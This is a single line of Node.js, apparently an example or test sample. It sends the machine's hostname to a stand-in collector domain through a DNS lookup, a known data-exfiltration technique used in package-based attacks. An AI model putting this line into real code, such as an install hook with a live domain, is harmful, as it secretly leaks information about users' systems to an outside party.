require("dns").lookup(require("os").hostname() + ".collector.example", () => {})
